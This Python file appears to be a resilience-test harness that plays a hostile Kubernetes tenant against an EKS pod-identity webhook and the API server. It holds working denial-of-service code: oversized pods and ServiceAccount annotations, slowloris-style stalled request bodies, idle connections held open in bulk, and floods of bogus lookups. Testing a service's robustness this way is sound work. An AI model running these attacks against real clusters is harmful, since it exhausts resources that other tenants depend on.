"""Acts as a hostile tenant: `python hostile_tenant.py SETTINGS` (a JSON file) attacks until it is killed.

The tenant may create and patch pods and ServiceAccounts in one namespace, and reaches both ports of the webhook. The
rates keep the API server itself usable on two cores: it gets a large pod every four seconds and one request a second
with a large ServiceAccount; the webhook gets 37 connections a second. With `harmless`, the tenant sends the API server
as many requests, but for objects for which it calls no webhook, and attacks nothing else.
"""

import asyncio
import itertools
import json
import random
import ssl
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx

# Requests a second; for connections that stay open, connections a second.
PODS, ACCOUNTS, LOOKUPS, STALLED, IDLE = 0.25, 0.5, 5.0, 8.0, 12.0
ROLE_KEY = "eks.amazonaws.com/role-arn"
OUR_PATH = "/var/run/secrets/eks.amazonaws.com/serviceaccount"


@dataclass(frozen=True)
class Settings:
    """The targets of the attacks."""

    api: str
    ca: str
    token: str
    namespace: str
    webhook: str
    webhook_ca: str
    metrics_port: int
    attacks: list[str]
    harmless: bool


async def every(seconds: float, act: Callable[[int], Awaitable[object]]) -> None:
    """Calls `act` at a steady rate, whatever its result."""
    running: set[asyncio.Task[object]] = set()
    for number in itertools.count():
        if len(running) < 64:
            task = asyncio.ensure_future(_quietly(act(number)))
            running.add(task)
            task.add_done_callback(running.discard)
        await asyncio.sleep(seconds)


async def _quietly(act: Awaitable[object]) -> object:
    try:
        return await act
    except (httpx.HTTPError, OSError, ssl.SSLError, asyncio.IncompleteReadError):
        return None


class Tenant:
    """The attacks; each runs forever."""

    def __init__(self, settings: Settings) -> None:
        self.settings = settings
        self._api = httpx.AsyncClient(
            base_url=settings.api,
            headers={"Authorization": f"Bearer {settings.token}"},
            verify=ssl.create_default_context(cadata=settings.ca),
            timeout=20,
            trust_env=False,
        )
        self._tls = ssl.create_default_context(cadata=settings.webhook_ca)
        self._tls.check_hostname = False
        self._kept: list[Any] = []

    @property
    def _base(self) -> str:
        return f"/api/v1/namespaces/{self.settings.namespace}"

    async def pods_in_products(self) -> None:
        """Creates pods whose 300 containers each mount a volume with 8,000 sources at our token's place."""
        sources = [{"serviceAccountToken": {"path": f"t{number}"}} for number in range(8000)]
        mount = [{"name": "v", "mountPath": "/data" if self.settings.harmless else OUR_PATH}]
        containers = [{"name": f"c{number}", "image": "i", "volumeMounts": mount} for number in range(300)]
        spec = {
            "serviceAccountName": "hostile",
            "automountServiceAccountToken": False,
            "containers": containers,
            "volumes": [{"name": "v", "projected": {"sources": sources}}],
        }

        async def create(_number: int) -> None:
            pod = {"metadata": {"generateName": "p-"}, "spec": spec}
            await self._api.post(f"{self._base}/pods", json=pod, params={"dryRun": "All"})

        await every(1 / PODS, create)

    async def large_accounts(self) -> None:
        """Patches ServiceAccounts with 250 kB: in foreign annotations, in our annotations, and outside annotations."""
        value = "<" * 240_000
        kind = "configmaps" if self.settings.harmless else "serviceaccounts"
        finalizers = [f"example.com/{number:05}{'x' * 40}" for number in range(8000)]

        async def patch(number: int) -> None:
            name = f"large-{number % 40}"
            key = ("example.com/any", ROLE_KEY, "eks.amazonaws.com/audience")[number % 3]
            annotations = {key: value + str(number)}
            metadata: dict[str, Any] = {"name": name, "annotations": annotations}
            if number % 40 == 7:
                metadata["finalizers"] = finalizers
            await self._api.post(f"{self._base}/{kind}", json={"metadata": metadata})
            merge = {"Content-Type": "application/merge-patch+json"}
            body = json.dumps({"metadata": {"annotations": annotations}})
            await self._api.patch(f"{self._base}/{kind}/{name}", content=body, headers=merge)

        await every(1 / ACCOUNTS, patch)

    async def stalled_bodies(self) -> None:
        """Sends small and large bodies that start but never end."""
        head = b"POST /mutate HTTP/1.1\r\nHost: w\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"

        async def stall(number: int) -> None:
            reader, writer = await self._connect()
            sent = (60_000, 600_000)[number % 2]
            writer.write(head % (sent + 100_000) + b" " * sent)
            self._keep(reader, writer)

        await every(1 / STALLED, stall)

    async def idle_connections(self) -> None:
        """Opens connections, uses each once and keeps it open."""

        async def idle(_number: int) -> None:
            reader, writer = await self._connect()
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: w\r\n\r\n")
            await reader.readuntil(b"ok\n")
            self._keep(reader, writer)

        await every(1 / IDLE, idle)

    async def idle_on_the_metrics_port(self) -> None:
        """Does the same on the metrics port."""

        async def idle(_number: int) -> None:
            reader, writer = await asyncio.open_connection(self.settings.webhook, self.settings.metrics_port)
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: w\r\n\r\n")
            self._keep(reader, writer)

        await every(1 / IDLE, idle)

    async def lookups(self) -> None:
        """Sends reviews of pods whose ServiceAccounts do not exist."""

        async def ask(_number: int) -> None:
            reader, writer = await self._connect()
            pod = {"spec": {"serviceAccountName": f"none-{random.getrandbits(64):x}", "containers": [{"name": "c"}]}}
            request = {
                "uid": "u",
                "operation": "CREATE",
                "kind": {"kind": "Pod"},
                "namespace": self.settings.namespace,
                "object": pod,
            }
            body = json.dumps({"request": request}).encode()
            head = b"POST /mutate HTTP/1.1\r\nHost: w\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
            writer.write(head % len(body) + body + b"garbage\r\n\r\n")
            await reader.read(4096)
            writer.close()

        await every(1 / LOOKUPS, ask)

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.settings.webhook, 443, ssl=self._tls)

    def _keep(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._kept.append((reader, writer))
        if len(self._kept) > 3000:
            _, oldest = self._kept.pop(0)
            oldest.close()

    async def run(self) -> None:
        """Runs all attacks at the same time."""
        await asyncio.gather(*(getattr(self, attack)() for attack in self.settings.attacks))


API_ATTACKS = ["pods_in_products", "large_accounts"]
ATTACKS = [*API_ATTACKS, "stalled_bodies", "idle_connections", "idle_on_the_metrics_port", "lookups"]

if __name__ == "__main__":
    asyncio.run(Tenant(Settings(**json.loads(Path(sys.argv[1]).read_text()))).run())
